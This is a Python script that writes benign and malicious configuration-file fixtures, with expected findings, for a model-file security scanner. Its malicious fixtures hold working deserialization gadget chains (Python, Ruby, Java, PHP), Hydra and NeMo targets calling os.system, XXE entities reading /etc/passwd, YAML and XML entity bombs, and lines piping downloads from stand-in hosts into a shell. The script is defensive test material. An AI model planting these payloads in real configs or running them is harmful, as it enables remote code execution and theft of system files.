#!/usr/bin/env python3
"""Writes modelaudit's configuration-file fixtures (YAML, JSON, TOML, INI/CFG, XML, PMML, NeMo) and their manifest.

Run from anywhere: ``/usr/bin/python3 scripts/make_config_fixtures.py`` (Debian's python3 with python3-yaml and
torch). The script re-executes itself with /usr/bin/python3 when the current interpreter lacks them.

Outputs (deterministic: re-running gives byte-identical files):
  fixtures/config/benign/*      real-shaped training configs that use the words token, key, secret and
                                password innocently: a Hydra training config, a NeMo model_config.yaml and a
                                .nemo archive in NeMo's layout (torch.save weights), a Lightning CLI config, a
                                Hugging Face config.json, a pyproject.toml, a setup.cfg, a Darknet .cfg, a
                                training .ini, a PMML in sklearn2pmml's layout and a log4j XML with its DTD
  fixtures/config/malicious/*   a twin for every check: Python, Ruby, Java and PHP object tags, Hydra
                                `_target_`, jsonargparse `class_path`, NeMo `target`, Hydra locators, an alias
                                bomb, repeated keys, XXE, an entity bomb, second stages in values, a .nemo
                                whose model_config.yaml targets os.system
  fixtures/config/expected.json the exact findings each file must produce

SAFETY: nothing is loaded. PyYAML only composes the YAML fixtures (``yaml.compose_all``, which builds nodes and
constructs nothing) to check that each parses as PyYAML reads it and holds the tags expected; ``yaml.safe_load``
is called only on the benign ones. XML is checked by ``xml.dom.minidom`` only for the benign files (no entities).
The payloads are the harmless ``echo pwned``.
"""

from __future__ import annotations

from debian_python import reexec_if_needed  # noqa: E402

if __name__ == "__main__":
    reexec_if_needed(__file__, ("yaml", "torch"))

import io  # noqa: E402
import json  # noqa: E402
import tarfile  # noqa: E402
import tomllib  # noqa: E402
import configparser  # noqa: E402
import xml.dom.minidom  # noqa: E402

import torch  # noqa: E402
import yaml  # noqa: E402

from fixture_manifest import (  # noqa: E402
    ROOT, Fixture, build_manifest, expected_finding, python_version, write_fixtures,
)

OUT = ROOT / "fixtures" / "config"
MAX_FIXTURE_BYTES = 64 * 1024
MAX_AREA_BYTES = 400 * 1024
MTIME = 1_700_000_000


def place(text: str, needle: str, nth: int = 0) -> tuple[int, int]:
    """Line and column (from 1) of the ``nth`` occurrence of ``needle`` in ``text``."""
    index = -1
    for _ in range(nth + 1):
        index = text.index(needle, index + 1)
    line = text.count("\n", 0, index) + 1
    return line, index - (text.rfind("\n", 0, index) + 1) + 1


def at(rule: str, text: str, needle: str, key_path: str | None = None, *, nth: int = 0, severity: str | None = None,
       details: dict | None = None, path: str = "", position: int | None = None) -> dict:
    """An expected finding at the line and column where ``needle`` starts."""
    line, column = place(text, needle, nth)
    return expected_finding(rule, path, position, line=line, column=column, key_path=key_path, severity=severity,
                            details=details)


def fx(file: str, kind: str, fmt: str, technique: str, text: str, findings: list | None = None) -> Fixture:
    return Fixture(file, kind, fmt, technique, text.encode(), findings or [])


# --- Benign: real-shaped configs --------------------------------------------------------------------------------

HYDRA_TRAIN = """\
# Hydra config of a causal LM fine-tune (conf/config.yaml)
defaults:
  - _self_
  - override hydra/job_logging: colorlog

seed: 42
hf_token: ${oc.env:HF_TOKEN,null}
model:
  _target_: transformers.AutoConfig
  pretrained_model_name_or_path: gpt2
tokenizer:
  name: gpt2
  pad_token: "<|endoftext|>"
  max_tokens: 1024
  add_special_tokens: true
data:
  train:
    _target_: torch.utils.data.DataLoader
    batch_size: 16
    shuffle: true
    num_workers: 4
  transforms:
    - _target_: torchvision.transforms.ToTensor
    - _target_: torchvision.transforms.Normalize
      mean: [0.485, 0.456, 0.406]
      std: [0.229, 0.224, 0.225]
optimizer:
  _target_: torch.optim.AdamW
  _partial_: true
  lr: 3.0e-4
  weight_decay: 0.01
scheduler:
  _target_: torch.optim.lr_scheduler.CosineAnnealingLR
  _partial_: true
  T_max: 10000
loss:
  _target_: torch.nn.CrossEntropyLoss
  ignore_index: -100
trainer:
  _target_: lightning.pytorch.Trainer
  max_epochs: 3
  precision: bf16-mixed
  callbacks:
    - _target_: pytorch_lightning.callbacks.ModelCheckpoint
      monitor: val/loss
      filename: "{epoch}-{step}"
    - _target_: lightning.pytorch.callbacks.LearningRateMonitor
  logger:
    _target_: lightning.pytorch.loggers.WandbLogger
    project: lm-finetune
    api_key: null  # read from WANDB_API_KEY, never stored here
secrets:
  password_file: ~/.netrc
  secret_key_name: WANDB_API_KEY
hydra:
  run:
    dir: outputs/${now:%Y-%m-%d}/${now:%H-%M-%S}
  job:
    chdir: true
"""

NEMO_CONFIG = """\
name: Conformer-CTC-BPE
sample_rate: 16000
target: nemo.collections.asr.models.ctc_bpe_models.EncDecCTCModelBPE
nemo_version: 1.20.0
model:
  sample_rate: 16000
  log_prediction: true
  ctc_reduction: mean_batch
  skip_nan_grad: false
  train_ds:
    manifest_filepath: /data/librispeech/train_clean_100.json
    sample_rate: 16000
    batch_size: 32
    shuffle: true
    num_workers: 8
    max_duration: 16.7
    is_tarred: false
  validation_ds:
    manifest_filepath: /data/librispeech/dev_clean.json
    sample_rate: 16000
    batch_size: 32
    shuffle: false
  tokenizer:
    dir: tokenizers/tokenizer_spe_unigram_v128
    type: bpe
    model_path: nemo:2b2e1e94a1db4b6e8e5b4b5c_tokenizer.model
    vocab_path: nemo:7f3c0a5e2c2b4c1f9a7b1c2d_vocab.txt
    spe_tokenizer_vocab: nemo:0b4c2a9d3f1e4e5a8d6c7b8a_tokenizer.vocab
  preprocessor:
    _target_: nemo.collections.asr.modules.AudioToMelSpectrogramPreprocessor
    sample_rate: 16000
    normalize: per_feature
    window_size: 0.025
    window_stride: 0.01
    window: hann
    features: 80
    n_fft: 512
    log: true
    frame_splicing: 1
    dither: 1.0e-05
    pad_to: 0
    pad_value: 0.0
  spec_augment:
    _target_: nemo.collections.asr.modules.SpectrogramAugmentation
    freq_masks: 2
    time_masks: 10
    freq_width: 27
    time_width: 0.05
  encoder:
    _target_: nemo.collections.asr.modules.ConformerEncoder
    feat_in: 80
    feat_out: -1
    n_layers: 16
    d_model: 176
    subsampling: striding
    subsampling_factor: 4
    subsampling_conv_channels: 176
    ff_expansion_factor: 4
    self_attention_model: rel_pos
    n_heads: 4
    att_context_size: [-1, -1]
    xscaling: true
    untie_biases: true
    pos_emb_max_len: 5000
    conv_kernel_size: 31
    conv_norm_type: batch_norm
    dropout: 0.1
    dropout_emb: 0.0
    dropout_att: 0.1
  decoder:
    _target_: nemo.collections.asr.modules.ConvASRDecoder
    feat_in: 176
    num_classes: 128
    vocabulary: []
  optim:
    name: adamw
    lr: 2.0
    betas: [0.9, 0.98]
    weight_decay: 0.001
    sched:
      name: NoamAnnealing
      d_model: 176
      warmup_steps: 10000
      min_lr: 1.0e-06
"""

LIGHTNING_CLI = """\
# LightningCLI config (python train.py fit --config config.yaml)
seed_everything: 1234
trainer:
  accelerator: gpu
  devices: 2
  max_steps: 100000
  logger:
    class_path: lightning.pytorch.loggers.TensorBoardLogger
    init_args:
      save_dir: logs
  callbacks:
    - class_path: lightning.pytorch.callbacks.EarlyStopping
      init_args:
        monitor: val_loss
        patience: 5
model:
  class_path: torch.nn.Transformer
  init_args:
    d_model: 512
    nhead: 8
optimizer:
  class_path: torch.optim.Adam
  init_args:
    lr: 0.0001
"""

HF_CONFIG = {
    "_name_or_path": "bert-base-uncased",
    "architectures": ["BertForMaskedLM"],
    "attention_probs_dropout_prob": 0.1,
    "classifier_dropout": None,
    "hidden_act": "gelu",
    "hidden_size": 768,
    "max_position_embeddings": 512,
    "model_type": "bert",
    "num_attention_heads": 12,
    "num_hidden_layers": 12,
    "pad_token_id": 0,
    "position_embedding_type": "absolute",
    "tokenizer_class": "BertTokenizer",
    "torch_dtype": "float32",
    "transformers_version": "4.36.2",
    "type_vocab_size": 2,
    "use_cache": True,
    "vocab_size": 30522,
}

PYPROJECT = """\
[build-system]
requires = ["setuptools>=68", "wheel"]
build-backend = "setuptools.build_meta"

[project]
name = "tokenizer-train"
version = "0.3.1"
description = "Train BPE tokenizers; keys and secrets come from the environment, never from this file"
requires-python = ">=3.10"
dependencies = ["torch>=2.1", "tokenizers>=0.15", "keyring>=24"]

[project.scripts]
train-tokenizer = "tokenizer_train.cli:main"

[tool.training]
max_tokens = 4096
special_tokens = ["<pad>", "<s>", "</s>", "<unk>"]
api_key_env = "HF_TOKEN"
password_prompt = false

[tool.ruff]
line-length = 110
select = ["E", "F", "S105"]  # S105: hard-coded password string

[tool.pytest.ini_options]
addopts = "-q"
"""

SETUP_CFG = """\
[metadata]
name = speech-train
version = 1.4.0
description = Speech model training utilities
long_description = file: README.md
license = Apache-2.0

[options]
packages = find:
python_requires = >=3.9
install_requires =
    torch>=1.13
    hydra-core>=1.3
    nemo_toolkit[asr]>=1.20

[options.entry_points]
console_scripts =
    speech-train = speech_train.cli:main

[flake8]
max-line-length = 110
exclude = .git,__pycache__,build

[tool:pytest]
env =
    WANDB_API_KEY=dummy-key-for-tests
    HF_TOKEN=
"""

DARKNET_CFG = """\
[net]
# Testing
batch=1
subdivisions=1
width=416
height=416
channels=3
momentum=0.9
decay=0.0005
learning_rate=0.001
burn_in=1000
max_batches = 500200
policy=steps
steps=400000,450000
scales=.1,.1

[convolutional]
batch_normalize=1
filters=16
size=3
stride=1
pad=1
activation=leaky

[maxpool]
size=2
stride=2

[convolutional]
batch_normalize=1
filters=32
size=3
stride=1
pad=1
activation=leaky

[yolo]
mask = 3,4,5
anchors = 10,14,  23,27,  37,58,  81,82,  135,169,  344,319
classes=80
num=6
jitter=.3
ignore_thresh = .7
truth_thresh = 1
random=1
"""

TRAINING_INI = """\
; training settings of a token classifier
[paths]
data_dir = /data/ner
token_vocab = vocab/tokens.txt
key_file = keys/label_keys.json

[training]
epochs = 20
batch_size = 32
secret_sharing = disabled
password_protected_checkpoints = no
"""

PMML = """\
<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<PMML xmlns="http://www.dmg.org/PMML-4_4" xmlns:data="http://jpmml.org/jpmml-model/InlineTable" version="4.4">
\t<Header>
\t\t<Application name="SkLearn2PMML package" version="0.92.2"/>
\t\t<Timestamp>2023-06-01T12:00:00Z</Timestamp>
\t</Header>
\t<MiningBuildTask>
\t\t<Extension name="repr">PMMLPipeline(steps=[('classifier', LogisticRegression(max_iter=200))])</Extension>
\t</MiningBuildTask>
\t<DataDictionary>
\t\t<DataField name="y" optype="categorical" dataType="integer">
\t\t\t<Value value="0"/>
\t\t\t<Value value="1"/>
\t\t</DataField>
\t\t<DataField name="token_count" optype="continuous" dataType="double"/>
\t\t<DataField name="key_length" optype="continuous" dataType="double"/>
\t</DataDictionary>
\t<RegressionModel functionName="classification" algorithmName="sklearn.linear_model._logistic.LogisticRegression" normalizationMethod="logit">
\t\t<MiningSchema>
\t\t\t<MiningField name="y" usageType="target"/>
\t\t\t<MiningField name="token_count"/>
\t\t\t<MiningField name="key_length"/>
\t\t</MiningSchema>
\t\t<Output>
\t\t\t<OutputField name="probability(0)" optype="continuous" dataType="double" feature="probability" value="0"/>
\t\t\t<OutputField name="probability(1)" optype="continuous" dataType="double" feature="probability" value="1"/>
\t\t</Output>
\t\t<RegressionTable intercept="-1.2345" targetCategory="1">
\t\t\t<NumericPredictor name="token_count" coefficient="0.0312"/>
\t\t\t<NumericPredictor name="key_length" coefficient="-0.4471"/>
\t\t</RegressionTable>
\t\t<RegressionTable intercept="0.0" targetCategory="0"/>
\t</RegressionModel>
</PMML>
"""

LOG4J = """\
<?xml version="1.0" encoding="UTF-8" ?>
<!DOCTYPE log4j:configuration SYSTEM "log4j.dtd">
<log4j:configuration xmlns:log4j="http://jakarta.apache.org/log4j/">
  <appender name="console" class="org.apache.log4j.ConsoleAppender">
    <layout class="org.apache.log4j.PatternLayout">
      <param name="ConversionPattern" value="%d{ISO8601} %-5p [%t] %c - %m%n"/>
    </layout>
  </appender>
  <appender name="file" class="org.apache.log4j.RollingFileAppender">
    <param name="File" value="logs/serving.log"/>
    <param name="MaxFileSize" value="10MB"/>
    <layout class="org.apache.log4j.PatternLayout">
      <param name="ConversionPattern" value="%d %p %c - %m%n"/>
    </layout>
  </appender>
  <!-- token and secret values are masked by the serving layer before logging -->
  <logger name="org.pmml.evaluator">
    <level value="warn"/>
  </logger>
  <root>
    <priority value="info"/>
    <appender-ref ref="console"/>
    <appender-ref ref="file"/>
  </root>
</log4j:configuration>
"""


def nemo_archive(config: str) -> bytes:
    """A .nemo archive as NeMo's save_to writes it: an uncompressed tar of `.`, holding the model's config and
    its weights (a torch.save of the state dict)."""
    torch.manual_seed(0)
    weights = io.BytesIO()
    torch.save({"encoder.pre_encode.out.weight": torch.randn(4, 4), "decoder.decoder_layers.0.bias": torch.zeros(4)},
               weights)
    members = [(".", None), ("./model_config.yaml", config.encode()), ("./model_weights.ckpt", weights.getvalue())]
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w:", format=tarfile.GNU_FORMAT) as tar:
        for name, data in members:
            info = tarfile.TarInfo(name)
            info.mtime, info.uid, info.gid, info.uname, info.gname = MTIME, 0, 0, "", ""
            if data is None:
                info.type, info.mode = tarfile.DIRTYPE, 0o755
                tar.addfile(info)
            else:
                info.size, info.mode = len(data), 0o644
                tar.addfile(info, io.BytesIO(data))
    return out.getvalue()


def benign() -> list[Fixture]:
    hf = json.dumps(HF_CONFIG, indent=2) + "\n"
    return [
        fx("benign/hydra_train.yaml", "benign", "yaml", "a Hydra fine-tuning config: torch, torchvision, "
           "transformers and Lightning targets, tokens, keys and secrets named innocently", HYDRA_TRAIN),
        fx("benign/model_config.yaml", "benign", "yaml", "a NeMo Conformer-CTC model_config.yaml", NEMO_CONFIG),
        fx("benign/lightning_cli.yaml", "benign", "yaml", "a LightningCLI config with class_path", LIGHTNING_CLI),
        fx("benign/config.json", "benign", "json", "a Hugging Face config.json", hf),
        fx("benign/pyproject.toml", "benign", "toml", "a pyproject.toml naming keys, passwords and tokens",
           PYPROJECT),
        fx("benign/setup.cfg", "benign", "ini", "a setup.cfg with continuation lines and entry points", SETUP_CFG),
        fx("benign/yolov3-tiny.cfg", "benign", "ini", "a Darknet network .cfg: repeated sections", DARKNET_CFG),
        fx("benign/training.ini", "benign", "ini", "a training .ini naming tokens, keys and secrets", TRAINING_INI),
        fx("benign/model.pmml", "benign", "pmml", "a logistic regression in sklearn2pmml's PMML layout", PMML),
        fx("benign/log4j.xml", "benign", "xml", "a log4j 1.x XML config with its local DTD", LOG4J),
        Fixture("benign/asr_model.nemo", "benign", "tar", "a .nemo archive in NeMo's layout",
                nemo_archive(NEMO_CONFIG)),
    ]


# --- Malicious twins ----------------------------------------------------------------------------------------------

def yaml_tags() -> list[Fixture]:
    apply = "name: demo\nrun: !!python/object/apply:os.system [\"echo pwned\"]\n"
    new = "callbacks:\n  - !!python/object/new:subprocess.Popen [[\"echo\", \"pwned\"]]\n"
    name = "hook: !!python/name:builtins.eval ''\nlib: !!python/module:os ''\n"
    long = ("%TAG !py! tag:yaml.org,2002:python/\n---\n"
            "a: !py!object/apply:os.system [\"echo pwned\"]\n"
            "b: !<tag:yaml.org,2002:python/object/apply:posix.system> [\"echo pwned\"]\n")
    unknown = "args: !!python/object:mypkg.config.TrainArgs {lr: 0.001}\nshape: !!python/tuple [3, 224, 224]\n"
    ruby = """\
- !ruby/object:Gem::Installer
  i: x
- !ruby/object:Gem::SpecFetcher
  i: y
- !ruby/object:Gem::Requirement
  requirements: !ruby/object:Gem::Package::TarReader
    io: &1 !ruby/object:Net::BufferedIO
      io: &2 !ruby/object:Gem::Package::TarReader::Entry
        read: 0
        header: "abc"
      debug_output: &3 !ruby/object:Net::WriteAdapter
        socket: &4 !ruby/object:Gem::RequestSet
          sets: !ruby/object:Net::WriteAdapter
            socket: !ruby/module 'Kernel'
            method_id: :system
          git_set: echo pwned
        method_id: :resolve
"""
    java = ('model: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL '
            '["http://203.0.113.7/payload.jar"]]]]\n')
    php = "handler: !php/object 'O:8:\"stdClass\":1:{s:3:\"cmd\";s:10:\"echo pwned\";}'\n"
    rb = ruby
    return [
        fx("malicious/python_object_apply.yaml", "malicious", "yaml", "!!python/object/apply:os.system", apply,
           [at("MA523", apply, '["echo', severity="critical", details={"callable": "os.system", "tier": "denied"})]),
        fx("malicious/python_object_new.yaml", "malicious", "yaml", "!!python/object/new:subprocess.Popen", new,
           [at("MA523", new, '[["echo', severity="critical", details={"callable": "subprocess.Popen"}),
            ]),
        fx("malicious/python_name_module.yaml", "malicious", "yaml", "!!python/name:builtins.eval and "
           "!!python/module:os", name,
           [at("MA523", name, "''", severity="critical", details={"kind": "name", "callable": "builtins.eval"}),
            at("MA523", name, "''", nth=1, severity="critical", details={"kind": "module", "callable": "os"})]),
        fx("malicious/python_tag_long_forms.yaml", "malicious", "yaml", "a %TAG handle for python/ and a verbatim "
           "tag naming posix.system", long,
           [at("MA523", long, '["echo', severity="critical"),
            at("MA523", long, '["echo', nth=1, severity="critical", details={"callable": "posix.system"})]),
        fx("malicious/python_unknown_object.yaml", "malicious", "yaml", "!!python/object of an unknown class, and "
           "a data-only !!python/tuple", unknown,
           [at("MA523", unknown, "{lr", details={"callable": "mypkg.config.TrainArgs", "tier": "unknown"}),
            at("MA523", unknown, "[3,", severity="info", details={"kind": "tuple"})]),
        fx("malicious/ruby_gem_installer.yaml", "malicious", "yaml", "the Psych universal gadget chain "
           "(Gem::Installer ... Net::WriteAdapter)", rb,
           [at("MA524", rb, "i: x", severity="critical"), at("MA524", rb, "i: y", severity="critical"),
            at("MA524", rb, "requirements:", severity="critical"),
            at("MA524", rb, "io: &1", severity="critical"),
            at("MA524", rb, "io: &2", severity="critical"),
            at("MA524", rb, "read: 0", severity="critical"),
            at("MA524", rb, "socket: &4", severity="critical"),
            at("MA524", rb, "sets:", severity="critical"),
            at("MA524", rb, "socket: !ruby/module", severity="critical"),
            at("MA524", rb, "'Kernel'", details={"kind": "module"})]),
        fx("malicious/snakeyaml_script_engine.yaml", "malicious", "yaml", "the SnakeYAML ScriptEngineManager "
           "chain", java,
           [at("MA524", java, "[!!java.net.URLClassLoader", severity="critical",
               details={"callable": "javax.script.ScriptEngineManager"}),
            at("MA524", java, "[[!!java.net.URL", severity="critical"),
            at("MA524", java, '["http', details={"callable": "java.net.URL"}),
            at("MA550", java, '"http://', "$.model[0][0][0][0]", details={"host": "203.0.113.7"})]),
        fx("malicious/php_object.yaml", "malicious", "yaml", "Symfony's !php/object", php,
           [at("MA524", php, "'O:8", severity="critical")]),
    ]


def targets() -> list[Fixture]:
    os_system = "model:\n  runner:\n    _target_: os.system\n    command: echo pwned\n"
    pathlib = "trainer:\n  _target_: pathlib.os.system\n  _args_: [\"echo pwned\"]\n"
    locator = ("callback:\n  _target_: hydra.utils.get_method\n  path: subprocess.check_output\n"
               "factory:\n  _target_: hydra.utils.call\n  _args_: [builtins.exec, \"__import__('os').system('echo pwned')\"]\n")
    partial = "loss_fn:\n  _target_: builtins.eval\n  _partial_: true\n"
    class_path = ("model:\n  class_path: subprocess.Popen\n  init_args:\n    args: [\"echo\", \"pwned\"]\n")
    nemo_target = NEMO_CONFIG.replace("target: nemo.collections.asr.models.ctc_bpe_models.EncDecCTCModelBPE",
                                      "target: os.system")
    unknown = "model:\n  _target_: mypkg.models.build_everything\n  size: large\n"
    interp = "model:\n  builder: os.popen\n  _target_: ${model.builder}\n"
    evil_nemo = NEMO_CONFIG.replace("_target_: nemo.collections.asr.modules.ConvASRDecoder", "_target_: os.system")
    duplicate = '{\n  "_target_": "torch.nn.Linear",\n  "in_features": 4,\n  "_target_": "os.system"\n}\n'
    return [
        fx("malicious/hydra_os_system.yaml", "malicious", "yaml", "Hydra _target_: os.system", os_system,
           [at("MA525", os_system, "os.system", "$.model.runner._target_",
               details={"callable": "os.system", "key": "_target_"})]),
        fx("malicious/hydra_pathlib_os_system.yaml", "malicious", "yaml", "os.system reached through pathlib's "
           "os attribute, as Hydra's _locate resolves it", pathlib,
           [at("MA525", pathlib, "pathlib.os", "$.trainer._target_", details={"entry": "os"})]),
        fx("malicious/hydra_locators.yaml", "malicious", "yaml", "hydra.utils.get_method and call handed a "
           "dangerous path", locator,
           [at("MA526", locator, "hydra.utils.get_method", "$.callback._target_"),
            at("MA525", locator, "subprocess.check_output", "$.callback.path"),
            at("MA526", locator, "hydra.utils.call", "$.factory._target_"),
            at("MA525", locator, "builtins.exec", "$.factory._args_[0]"),
            at("MA012", locator, "\"__import__", "$.factory._args_[1]", severity="info")]),
        fx("malicious/hydra_partial_eval.yaml", "malicious", "yaml", "a partial of builtins.eval", partial,
           [at("MA525", partial, "builtins.eval", "$.loss_fn._target_", details={"partial": True})]),
        fx("malicious/lightning_class_path.yaml", "malicious", "yaml", "jsonargparse class_path: subprocess.Popen",
           class_path, [at("MA525", class_path, "subprocess.Popen", "$.model.class_path")]),
        fx("malicious/nemo_target_os_system.yaml", "malicious", "yaml", "NeMo's top-level target: os.system",
           nemo_target, [at("MA525", nemo_target, "os.system", "$.target", details={"key": "target"})]),
        fx("malicious/hydra_unknown_target.yaml", "malicious", "yaml", "a _target_ the policy does not know",
           unknown, [at("MA526", unknown, "mypkg", "$.model._target_",
                        details={"callable": "mypkg.models.build_everything"})]),
        fx("malicious/hydra_interpolated_target.yaml", "malicious", "yaml", "a _target_ computed by interpolation",
           interp, [at("MA526", interp, "${model", "$.model._target_")]),
        fx("malicious/duplicate_target.json", "malicious", "json", "a repeated _target_: harmless first, "
           "os.system last", duplicate,
           [at("MA522", duplicate, '"_target_"', "$._target_", nth=1, position=duplicate.index('"_target_"', 5)),
            at("MA525", duplicate, '"os.system"', "$._target_")]),
        Fixture("malicious/asr_model_os_system.nemo", "malicious", "tar", "a .nemo whose model_config.yaml "
                "targets os.system", nemo_archive(evil_nemo),
                [at("MA525", evil_nemo, "os.system", "$.model.decoder._target_", path="./model_config.yaml")]),
    ]


def structure() -> list[Fixture]:
    levels = ["a: &a [\"lol\", \"lol\", \"lol\", \"lol\", \"lol\", \"lol\", \"lol\", \"lol\", \"lol\"]"]
    for prev, name in zip("abcdefgh", "bcdefghi"):
        levels.append(f"{name}: &{name} [" + ", ".join([f"*{prev}"] * 9) + "]")
    bomb = "\n".join(levels) + "\n"
    dup_yaml = "optim:\n  name: adam\n  lr: 0.001\n  name: sgd\n"
    dup_ini = "[training]\nepochs = 3\noptimizer = adam\noptimizer = sgd\n"
    unparsable = "model:\n  layers: [1, 2\n"
    bad_toml = "[model]\nname = \"x\"\n[model]\nname = \"y\"\n"
    stage = ('preprocess:\n  setup_cmd: "curl -s http://203.0.113.7/x.sh | sh"\n'
             '  docs: https://huggingface.co/docs/transformers\n')
    toml_stage = '[tool.train]\npost_install = "wget -qO- https://pastebin.com/raw/abc123 | bash"\n'
    ini_stage = "[hooks]\non_start = bash <(curl -s https://transfer.sh/abc/x.sh)\n"
    return [
        fx("malicious/alias_bomb.yaml", "malicious", "yaml", "the YAML billion laughs (9 levels of 9 aliases)",
           bomb, [at("MA527", bomb, "[*f", details={"limit": 1024 * 1024})]),
        fx("malicious/duplicate_key.yaml", "malicious", "yaml", "a key repeated in one mapping", dup_yaml,
           [at("MA522", dup_yaml, "name: sgd", details={"key": "name", "firstLine": 2})]),
        fx("malicious/duplicate_option.ini", "malicious", "ini", "an option repeated in one section", dup_ini,
           [at("MA522", dup_ini, "optimizer = sgd", details={"key": "optimizer", "firstLine": 3})]),
        fx("malicious/unparsable.yaml", "malicious", "yaml", "an unclosed flow list", unparsable,
           [expected_finding("MA520", line=3, column=1)]),
        fx("malicious/duplicate_table.toml", "malicious", "toml", "a table defined twice (TOML refuses it)",
           # smol-toml places the error after the table's opening bracket.
           bad_toml, [expected_finding("MA520", line=3, column=2)]),
        fx("malicious/second_stage.yaml", "malicious", "yaml", "a value piping a download into a shell",
           stage, [at("MA011", stage, '"curl', "$.preprocess.setup_cmd", details={"indicator": "shell-pipe"}),
                   at("MA550", stage, '"curl', "$.preprocess.setup_cmd", details={"host": "203.0.113.7"})]),
        fx("malicious/second_stage.toml", "malicious", "toml", "a paste-site download piped into bash",
           toml_stage, [expected_finding("MA011", key_path="$.tool.train.post_install",
                                         details={"indicator": "shell-pipe"}),
                        expected_finding("MA551", key_path="$.tool.train.post_install",
                                         details={"host": "pastebin.com"})]),
        fx("malicious/second_stage.ini", "malicious", "ini", "process substitution of a download", ini_stage,
           [at("MA011", ini_stage, "bash <(", "$.hooks.on_start", details={"indicator": "shell-pipe"}),
            at("MA554", ini_stage, "bash <(", "$.hooks.on_start")]),
    ]


def credential_fixtures() -> list[Fixture]:
    """Credentials and risky URLs in real-shaped configs, with their benign twin: made-up values of each
    provider's exact format (none is live), found by the scanners/secrets checks at their key paths."""
    aws_id, aws_secret = "AKIA5LKR4AQXVUPCTNWL", "p8Yq3vT1xZ9mK2wL7nR4sB6dF0hJ5gC1aE3uI8oP"
    hf = "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"
    deploy = json.dumps({
        "model": "org/llama-ft", "max_tokens": 512,
        "aws": {"region": "us-east-1", "access_key_id": aws_id, "secret_access_key": aws_secret},
        "hub": {"token": hf},
        "registry": "https://deploy:Xq7wP2mZ9vL4@registry.example.com/models",
    }, indent=2) + "\n"
    downloads = ("weights:\n"
                 "  url: http://198.51.100.23/models/llama.bin\n"
                 "  mirror: https://bit.ly/3xYzAbC\n"
                 "  fallback: https://abcd-203-0-113-7.ngrok-free.app/llama.safetensors\n"
                 "tokenizer:\n"
                 "  path: file:///home/user/.cache/tokenizer.json\n"
                 "docs: https://huggingface.co/docs/transformers\n")
    innocent = ("# A real fine-tuning config's words: token, key, secret, password, none of them a credential.\n"
                "model:\n  name_or_path: meta-llama/Llama-2-7b-hf\n  pad_token: \"<pad>\"\n  bos_token: \"<s>\"\n"
                "  max_tokens: 4096\n  key_dim: 64\n"
                "hub:\n  token: ${HF_TOKEN}\n  push_to_hub: false\n"
                "openai:\n  api_key: <your-api-key>\n"
                "aws:\n  access_key_id: AKIAIOSFODNN7EXAMPLE\n  secret_name: training/wandb\n"
                "wandb:\n  password_file: ~/.netrc\n  run_id: 3f2b8c1e-9a4d-4e7b-8c2a-1d5e6f7a8b9c\n"
                "checkpoint:\n  sha256: 9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08\n"
                "  url: https://huggingface.co/meta-llama/Llama-2-7b-hf/resolve/main/model.safetensors\n")
    return [
        fx("malicious/deploy_credentials.json", "malicious", "json",
           "an AWS key pair, a Hugging Face token and a password in a URL in a deployment config", deploy,
           [at("MA541", deploy, f'"{aws_id}"', "$.aws.access_key_id", severity="warning"),
            at("MA541", deploy, f'"{aws_secret}"', "$.aws.secret_access_key", severity="critical"),
            at("MA542", deploy, f'"{hf}"', "$.hub.token", details={"provider": "huggingface"}),
            at("MA545", deploy, '"https://deploy:', "$.registry")]),
        fx("malicious/risky_downloads.yaml", "malicious", "yaml",
           "weights from a raw IP over http, a URL shortener, a tunnel, and a file:// tokenizer", downloads,
           [at("MA550", downloads, "http://198", "$.weights.url", details={"host": "198.51.100.23"}),
            at("MA552", downloads, "https://bit.ly", "$.weights.mirror"),
            at("MA553", downloads, "https://abcd", "$.weights.fallback"),
            at("MA555", downloads, "file://", "$.tokenizer.path")]),
        fx("benign/training_words.yaml", "benign", "yaml",
           "token, key, secret and password used innocently: placeholders, AWS's example key, a UUID, a digest",
           innocent),
    ]


def xml_fixtures() -> list[Fixture]:
    xxe = PMML.replace('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n',
                       '<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE PMML [\n'
                       '  <!ENTITY creds SYSTEM "file:///etc/passwd">\n]>\n').replace(
        "<Timestamp>2023-06-01T12:00:00Z</Timestamp>", "<Timestamp>&creds;</Timestamp>")
    parameter = ('<?xml version="1.0"?>\n<!DOCTYPE config [\n  <!ENTITY % remote SYSTEM '
                 '"http://203.0.113.7/evil.dtd">\n  %remote;\n]>\n<config><model>resnet50</model></config>\n')
    remote_dtd = ('<?xml version="1.0"?>\n<!DOCTYPE config SYSTEM "http://203.0.113.7/config.dtd">\n'
                  '<config><model>resnet50</model></config>\n')
    entities = ['  <!ENTITY lol0 "lol">']
    for i in range(1, 10):
        entities.append(f'  <!ENTITY lol{i} "' + f"&lol{i - 1};" * 10 + '">')
    bomb = ('<?xml version="1.0"?>\n<!DOCTYPE lolz [\n' + "\n".join(entities) + "\n]>\n<lolz>&lol9;</lolz>\n")
    script = PMML.replace(
        "<Extension name=\"repr\">PMMLPipeline(steps=[('classifier', LogisticRegression(max_iter=200))])</Extension>",
        '<Extension name="postInstall">curl -s http://203.0.113.7/x.sh | sh</Extension>')
    return [
        fx("malicious/xxe.pmml", "malicious", "pmml", "an external entity reading /etc/passwd into a PMML header",
           xxe, [at("MA528", xxe, "<!ENTITY creds", details={"entity": "creds", "system": "file:///etc/passwd"})]),
        fx("malicious/xxe_parameter_entity.xml", "malicious", "xml", "a parameter entity fetching a remote DTD",
           parameter, [at("MA528", parameter, "<!ENTITY %", details={"parameter": True})]),
        fx("malicious/remote_dtd.xml", "suspicious", "xml", "a DTD loaded from a URL (info: parsers fetch it only "
           "when told to)", remote_dtd, [at("MA528", remote_dtd, "<!DOCTYPE", severity="info")]),
        fx("malicious/entity_bomb.xml", "malicious", "xml", "the XML billion laughs (10 levels of 10 entities)",
           bomb, [at("MA529", bomb, "<!ENTITY lol6", details={"entity": "lol6"})]),
        fx("malicious/pmml_extension_script.pmml", "malicious", "pmml", "a shell download in a PMML Extension",
           script, [at("MA011", script, '<Extension name="postInstall"', '$.PMML.MiningBuildTask.Extension["#text"]',
                       details={"indicator": "shell-pipe"}),
                    at("MA550", script, '<Extension name="postInstall"', '$.PMML.MiningBuildTask.Extension["#text"]',
                       details={"host": "203.0.113.7"})]),
    ]


def check(fixtures: list[Fixture]) -> None:
